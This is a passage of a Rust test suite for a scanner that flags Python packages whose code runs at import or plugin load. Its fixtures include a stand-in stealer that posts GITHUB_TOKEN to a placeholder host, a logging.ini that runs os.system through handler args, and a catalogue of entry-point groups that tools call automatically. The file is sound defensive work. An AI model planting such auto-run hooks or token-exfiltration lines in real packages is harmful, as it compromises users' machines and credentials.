        worst(&r, "python-shell-command", "cf/sphinx/conf.py"),
        Some(Severity::High),
        "{:?}",
        summary(&r)
    );
    // Look-alikes: a conf.py nobody runs, a computed module name, a setup.py that only reads
    // conf.py (for its release), and a conf.py with nothing in it imported by name.
    for files in [
        &[("cf/__init__.py", ""), ("cf/doc/conf.py", conf)][..],
        &[
            (
                "cf/__init__.py",
                "import importlib, sys\nimportlib.import_module(sys.argv[1])\n",
            ),
            ("cf/doc/conf.py", conf),
        ],
        &[
            (
                "x-1.0/setup.py",
                "import re\nv = re.search('release = (.*)', open('docs/conf.py').read())\n",
            ),
            ("x-1.0/docs/conf.py", conf),
        ],
        &[
            (
                "cf/__init__.py",
                "import importlib\nimportlib.import_module('cf.doc.conf')\n",
            ),
            (
                "cf/doc/conf.py",
                "project = 'cf'\nextensions = ['sphinx.ext.autodoc']\n",
            ),
        ],
    ] {
        let (_d, r) = scan_tree(files);
        assert!(nothing_at_medium(&r), "{:?}", summary(&r));
    }
}

/// A script's top level that reads a secret and sends it is a stealer when a module imports
/// it (t11 cf06), as the same code in the module would be; unimported, it stays below.
#[test]
fn a_stealer_script_imported_at_load_is_critical() {
    let conf = "import requests, os\nrequests.post('https://c.example.invalid', data=os.environ.get('GITHUB_TOKEN'))\n";
    let (_d, r) = scan_tree(&[
        ("cf/__init__.py", "from .docs.conf import *\n"),
        ("cf/docs/conf.py", conf),
    ]);
    assert_eq!(
        worst(&r, "python-credential-stealer", "cf/docs/conf.py"),
        Some(Severity::Critical),
        "{:?}",
        summary(&r)
    );
    let (_d, r) = scan_tree(&[("cf/__init__.py", ""), ("cf/docs/conf.py", conf)]);
    assert_eq!(
        worst(&r, "python-credential-stealer", "cf/docs/conf.py"),
        None,
        "{:?}",
        summary(&r)
    );
}

/// Entry points a host tool calls on its own in every run (a pytest plugin's hooks,
/// setuptools' `finalize_distribution_options` and `setup_keywords`) are calls at load of the
/// wheel's modules (tester t15 w01, w02, w04); a console script's function is not.
#[test]
fn plugin_entry_points_run_their_functions() {
    let plug = "import os\ndef pytest_configure(config):\n    os.system('echo airlock')\n";
    let hook = "import os\ndef finalize(dist):\n    os.system('echo airlock')\n";
    let cases: &[(&str, &str, &str)] = &[
        ("[pytest11]\nplug = demo_plug\n", "demo_plug.py", plug),
        (
            "[setuptools.finalize_distribution_options]\nx = demo_hook:finalize\n",
            "demo_hook.py",
            hook,
        ),
        (
            "[distutils.setup_keywords]\nname = demo_hook:finalize\n",
            "demo_hook.py",
            hook,
        ),
        // tox 4 loads its `tox` entry points at start and calls their hooks.
        (
            "[tox]\ndemo = demo_tox\n",
            "demo_tox.py",
            "import os\ndef tox_add_option(parser):\n    os.system('echo airlock')\n",
        ),
        // virtualenv builds its seeders whenever it creates an environment.
        (
            "[virtualenv.seed]\ndemo = demo_seed:Seeder\n",
            "demo_seed.py",
            "import os\nclass Seeder:\n    def __init__(self, options):\n        os.system('echo airlock')\n",
        ),
    ];
    for (eps, module, src) in cases {
        let dir = tempfile::tempdir().expect("tempdir");
        std::fs::write(
            dir.path().join("demo-1.0-py3-none-any.whl"),
            wheel(&[("demo-1.0.dist-info/entry_points.txt", eps), (module, src)]),
        )
        .expect("write");
        let r = scan_dir(dir.path());
        assert_eq!(
            worst(&r, "python-shell-command", module),
            Some(Severity::High),
            "{eps}: {:?}",
            summary(&r)
        );
    }
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(
        dir.path().join("demo-1.0-py3-none-any.whl"),
        wheel(&[
            (
                "demo-1.0.dist-info/entry_points.txt",
                "[console_scripts]\ndemo = demo_hook:finalize\n",
            ),
            ("demo_hook.py", hook),
        ]),
    )
    .expect("write");
    let r = scan_dir(dir.path());
    assert_eq!(
        worst(&r, "python-shell-command", "demo_hook.py"),
        Some(Severity::Low)
    );
    // Hydra imports every `hydra_plugins` module at every app start and calls each search-path
    // plugin's `manipulate_search_path` (tester t15 w03).
    let plugin = "import os\nfrom hydra.plugins.search_path_plugin import SearchPathPlugin\nclass P(SearchPathPlugin):\n    def manipulate_search_path(self, sp):\n        os.system('echo airlock')\n";
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(
        dir.path().join("demo-1.0-py3-none-any.whl"),
        wheel(&[("hydra_plugins/demo/demo_plugin.py", plugin)]),
    )
    .expect("write");
    let r = scan_dir(dir.path());
    assert_eq!(
        worst(&r, "python-shell-command", "demo_plugin.py"),
        Some(Severity::High),
        "{:?}",
        summary(&r)
    );
}

/// Tester t28 A6: more groups whose host calls the object on its own (keyring's backends,
/// numba's `init`, setuptools' build commands, PyInstaller's `hook-dirs`, pdm and poetry
/// plugins, nbconvert's exporters, jupyter_client's default provisioner, llm plugins) are calls
/// at load; an entry the host loads only when a user names it stays latent (low).
#[test]
fn regression_t28_a6_more_host_called_entry_points() {
    let hook = "import os\ndef hook(*a, **k):\n    os.system('echo airlock')\n";
    let class = "import os\nclass Plug:\n    def __init__(self, *a, **k):\n        os.system('echo airlock')\n";
    let activate = "import os\nclass Plug:\n    def activate(self, poetry, io):\n        os.system('echo airlock')\n";
    let llm = "import os\ndef register_commands(cli):\n    os.system('echo airlock')\n";
    let high: &[(&str, &str)] = &[
        ("[keyring.backends]\nplug = demo_plug:hook\n", hook),
        ("[numba_extensions]\ninit = demo_plug:hook\n", hook),
        (
            "[distutils.commands]\nbdist_wheel = demo_plug:Plug\n",
            class,
        ),
        ("[distutils.commands]\negg_info = demo_plug:Plug\n", class),
        ("[pyinstaller40]\nhook-dirs = demo_plug:hook\n", hook),
        ("[pdm]\nplug = demo_plug:hook\n", hook),
        ("[pdm.plugin]\nplug = demo_plug:hook\n", hook),
        ("[poetry.plugin]\nplug = demo_plug:Plug\n", class),
        (
            "[poetry.application.plugin]\nplug = demo_plug:Plug\n",
            activate,
        ),
        ("[nbconvert.exporters]\nplug = demo_plug:Plug\n", class),
        (
            "[jupyter_client.kernel_provisioners]\nlocal-provisioner = demo_plug:Plug\n",
            class,
        ),
        ("[llm]\nplug = demo_plug\n", llm),
    ];
    let low: &[(&str, &str)] = &[
        // numba calls only `init`; setuptools builds a command of another name only when
        // someone types it; PyInstaller calls only `hook-dirs`; hatchling loads its `hatch`
        // plugins only for a plugin name it does not ship; a kernel provisioner of another name
        // runs only for a kernel spec that names it.
        ("[numba_extensions]\nother = demo_plug:hook\n", hook),
        ("[distutils.commands]\nmy_release = demo_plug:Plug\n", class),
        ("[pyinstaller40]\ntests = demo_plug:hook\n", hook),
        ("[hatch]\nplug = demo_plug\n", llm),
        (
            "[jupyter_client.kernel_provisioners]\nremote = demo_plug:Plug\n",
            class,
        ),
    ];
    for (cases, want) in [(high, Severity::High), (low, Severity::Low)] {
        for (eps, src) in cases {
            let dir = tempfile::tempdir().expect("tempdir");
            std::fs::write(
                dir.path().join("demo-1.0-py3-none-any.whl"),
                wheel(&[
                    ("demo-1.0.dist-info/entry_points.txt", eps),
                    ("demo_plug.py", src),
                ]),
            )
            .expect("write");
            let r = scan_dir(dir.path());
            assert_eq!(
                worst(&r, "python-shell-command", "demo_plug.py"),
                Some(want),
                "{eps}: {:?}",
                summary(&r)
            );
        }
    }
}

/// A class without a constructor of its own runs its base's: a class made at the top level of
/// a module whose base sits in another module of the package (large enough that the prefilter
/// leaves it unparsed, or not), or in the same module; in a folder and in a wheel. A class
/// that defines its own constructor, or whose shell command sits in another class of the
/// base's module, stays low.
#[test]
fn a_constructor_inherited_from_a_base_runs_at_load() {
    use Severity::*;
    let base =
        "import os\nclass EvilBase:\n    def __init__(self):\n        os.system('echo airlock')\n";
    let padded = format!("{base}{}", "# padding\n".repeat(1200));
    let cases: &[Case] = &[
        (
            &[
                ("demo/__init__.py", "from .models import B\nB()\n"),
                ("demo/models.py", "from .base import EvilBase\nclass B(EvilBase):\n    pass\n"),
                ("demo/base.py", base),
            ],
            "python-shell-command",
            "demo/base.py",
            Some(High),
        ),
        (
            &[
                ("demo/__init__.py", "from .models import B\nB()\n"),
                ("demo/models.py", "from .base import EvilBase\nclass B(EvilBase):\n    pass\n"),
                ("demo/base.py", &padded),
            ],
            "python-shell-command",
            "demo/base.py",
            Some(High),
        ),
        // The class made where it is defined, its base imported.
        (
            &[
                ("demo/__init__.py", "from .base import EvilBase\nclass B(EvilBase):\n    pass\nB()\n"),
                ("demo/base.py", base),
            ],
            "python-shell-command",
            "demo/base.py",
            Some(High),
        ),
        // One module: `class B(A)`, `B()` at its top level.
        (
            &[(
                "demo/__init__.py",
                "import os\nclass A:\n    def __init__(self):\n        os.system('echo airlock')\nclass B(A):\n    pass\nB()\n",
            )],
            "python-shell-command",
            "demo/__init__.py",
            Some(High),
        ),
        // Benign: its own constructor, or a sibling of the base holds the command.
        (
            &[
                ("demo/__init__.py", "from .models import B\nB()\n"),
                ("demo/models.py", "from .base import EvilBase\nclass B(EvilBase):\n    def __init__(self):\n        self.x = 1\n"),
                ("demo/base.py", base),
            ],
            "python-shell-command",
            "demo/base.py",
            Some(Low),
        ),
        (
            &[
                ("demo/__init__.py", "from .models import B\nB()\n"),
                ("demo/models.py", "from .base import Plain\nclass B(Plain):\n    pass\n"),
                ("demo/base.py", "import os\nclass Plain:\n    def run(self):\n        return 1\nclass Other:\n    def __init__(self):\n        os.system('echo airlock')\n"),
            ],
            "python-shell-command",
            "demo/base.py",
            Some(Low),
        ),
    ];
    check_cases(cases);
}

/// Every case scanned as a folder and as a wheel: the worst finding of its rule on its file.
fn check_cases(cases: &[Case]) {
    let mut failures = Vec::new();
    for (files, rule, file, want) in cases {
        let (_d, r) = scan_tree(files);
        let dir = tempfile::tempdir().expect("tempdir");
        write(dir.path(), "demo-1.0-py3-none-any.whl", &wheel(files));
        let w = scan_dir(dir.path());
        for (how, r) in [("folder", &r), ("wheel", &w)] {
            let got = worst(r, rule, file);
            if got != *want {
                let names: Vec<&str> = files.iter().map(|f| f.0).collect();
                failures.push(format!(
                    "{how} {names:?}: want {rule} {want:?} on {file}, got {got:?}\n{:#?}",
                    summary(r)
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Hostile inheritance: 400 classes, each with 16 bases of the same module and of another
/// (a dense lattice, and a cycle through the other module), called at load. The join's walks
/// are bounded: it ends, and the constructor at the bottom is still found through a short path.
#[test]
fn a_dense_lattice_of_bases_is_bounded() {
    let mut m = String::from("import os\nfrom .other import O0\nclass K0:\n    def __init__(self):\n        os.system('echo airlock')\n");
    let mut o = String::from("from .m import K0\nclass O0(K0):\n    pass\n");
    for i in 1..400 {
        let bases: Vec<String> = (1..=15)
            .filter(|d| *d <= i)
            .map(|d| format!("K{}", i - d))
            .chain(std::iter::once("O0".to_string()))
            .collect();
        m.push_str(&format!("class K{i}({}):\n    pass\n", bases.join(", ")));
    }
    o.push_str("from .m import K399\nclass O1(K399):\n    pass\n");
    let start = std::time::Instant::now();
    let (_d, r) = scan_tree(&[
        ("demo/__init__.py", "from .m import K399\nK399()\n"),
        ("demo/m.py", &m),
        ("demo/other.py", &o),
    ]);
    assert!(start.elapsed().as_secs() < 60, "{:?}", start.elapsed());
    assert_eq!(
        worst(&r, "python-shell-command", "demo/m.py"),
        Some(Severity::High)
    );
}

/// A function put in a registry by a decorator (`@register`, `@register('name')`) or by
/// `HOOKS.append(f)` runs where the registry's entries are called: `for f in HOOKS: f()`,
/// `REG['name']()`, at module level or in a function another module calls at load (tester t12
/// x12). Registries whose entries are only called inside functions nobody calls at load
/// (pytest, pluggy, click style) stay low.
#[test]
fn functions_a_registry_holds_run_where_its_entries_are_called() {
    let plugins = "import os\n_REG = []\n\ndef register(f):\n    _REG.append(f)\n    return f\n\n@register\ndef _boot():\n    os.system('echo airlock')\n\ndef run_all():\n    for f in _REG:\n        f()\n";
    let (_d, r) = scan_tree(&[
        ("demo/plugins.py", plugins),
        (
            "demo/__init__.py",
            "from . import plugins\nplugins.run_all()\n",
        ),
    ]);
    assert_eq!(
        worst(&r, "python-shell-command", "plugins.py"),
        Some(Severity::High)
    );
    let (_d, r) = scan_tree(&[
        ("demo/plugins.py", plugins),
        ("demo/__init__.py", "from . import plugins\n"),
    ]);
    assert_eq!(
        worst(&r, "python-shell-command", "plugins.py"),
        Some(Severity::Low)
    );
    let (_d, r) = scan_tree(&[(
        "demo/__init__.py",
        "import os\nREG = {}\ndef register(name):\n    def deco(f):\n        REG[name] = f\n        return f\n    return deco\n@register('boot')\ndef _boot():\n    os.system('echo airlock')\nREG['boot']()\n",
    )]);
    assert_eq!(
        worst(&r, "python-shell-command", "__init__.py"),
        Some(Severity::High)
    );
    let (_d, r) = scan_tree(&[(
        "demo/__init__.py",
        "import os\nHOOKS = []\ndef _boot():\n    os.system('echo airlock')\nHOOKS.append(_boot)\n[h() for h in HOOKS]\n",
    )]);
    assert_eq!(
        worst(&r, "python-shell-command", "__init__.py"),
        Some(Severity::High)
    );
    // A plugin registry called only on request.
    let (_d, r) = scan_tree(&[(
        "demo/__init__.py",
        "import subprocess\nCOMMANDS = {}\ndef command(name):\n    def deco(f):\n        COMMANDS[name] = f\n        return f\n    return deco\n@command('build')\ndef build(args):\n    subprocess.run(['make'] + args)\ndef main(argv):\n    return COMMANDS[argv[0]](argv[1:])\n",
    )]);
    assert!(
        r.files
            .iter()
            .flat_map(|f| f.findings.iter())
            .all(|f| f.severity < Severity::Medium),
        "{:?}",
        r.files
            .iter()
            .flat_map(|f| f.findings.iter())
            .map(|f| f.message.clone())
            .collect::<Vec<_>>()
    );
}

/// `logging.config.fileConfig(path)` at import evaluates `class`, `args` and `kwargs` of every
/// handler of the file (CPython `_install_handlers`): a shipped `logging.ini` whose handler
/// args call `os.system` runs it when the module loads (t14 ob22), in a folder and in a wheel.
/// The same call in a function nothing calls, a file the package does not ship, and ordinary
/// handler arguments stay below medium.
#[test]
fn a_shipped_logging_ini_is_code_file_config_runs() {
    const CALL: &str = "import logging.config, os\nlogging.config.fileConfig(os.path.join(os.path.dirname(__file__), 'logging.ini'))\n";
    const EVIL: &str = "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\nclass=StreamHandler\nargs=(__import__('os').system('echo airlock-test'),)\n";
    const BENIGN: &str = "[loggers]\nkeys=root\n[handlers]\nkeys=h,f\n[formatters]\nkeys=f\n[logger_root]\nlevel=INFO\nhandlers=h,f\n[handler_h]\nclass=StreamHandler\nlevel=INFO\nformatter=f\nargs=(sys.stderr,)\n[handler_f]\nclass=handlers.RotatingFileHandler\nargs=('app.log', 'a')\nkwargs={'maxBytes': 1024}\n[handler_s]\nclass=logging.handlers.SysLogHandler\nargs=(('logs.example.invalid', 514),)\n[formatter_f]\nformat=%(asctime)s %(message)s\n";
    let (_d, r) = scan_tree(&[("demo/__init__.py", CALL), ("demo/logging.ini", EVIL)]);
    assert_eq!(
        worst(&r, "python-shell-command", "demo/__init__.py"),
        Some(Severity::High),
        "{:#?}",
        summary(&r)
    );
    // `class` is evaluated too; kwargs as well, in a subfolder.
    let (_d, r) = scan_tree(&[
        ("demo/__init__.py", "import logging.config\nfrom os import path\nlogging.config.fileConfig(path.join(path.dirname(__file__), 'conf', 'log.conf'))\n"),
        ("demo/conf/log.conf", "[handler_x]\nclass=os.system\nargs=('echo airlock-test',)\n[handler_y]\nclass=StreamHandler\nkwargs={'stream': __import__('subprocess').getoutput('echo airlock-test')}\n"),
    ]);
    assert_eq!(
        worst(&r, "python-shell-command", "demo/__init__.py"),
        Some(Severity::High),
        "{:#?}",
        summary(&r)
    );
    let dir = tempfile::tempdir().expect("tempdir");
    write(
        dir.path(),
        "demo-1.0-py3-none-any.whl",
        &wheel(&[("demo/__init__.py", CALL), ("demo/logging.ini", EVIL)]),
    );
    let r = scan_dir(dir.path());
    assert_eq!(
        worst(&r, "python-shell-command", "demo/__init__.py"),
        Some(Severity::High),
        "{:#?}",
        summary(&r)
    );
    // Below medium: ordinary handlers; the file not shipped; the call in a function.
    for files in [
        &[("demo/__init__.py", CALL), ("demo/logging.ini", BENIGN)][..],
        &[("demo/__init__.py", CALL)][..],
        &[
            ("demo/tools.py", "import logging.config, os\ndef setup():\n    logging.config.fileConfig(os.path.join(os.path.dirname(__file__), 'logging.ini'))\n"),
            ("demo/logging.ini", EVIL),
        ][..],
    ] {
        let (_d, r) = scan_tree(files);
        assert!(nothing_at_medium(&r), "{:#?}", summary(&r));
    }
}
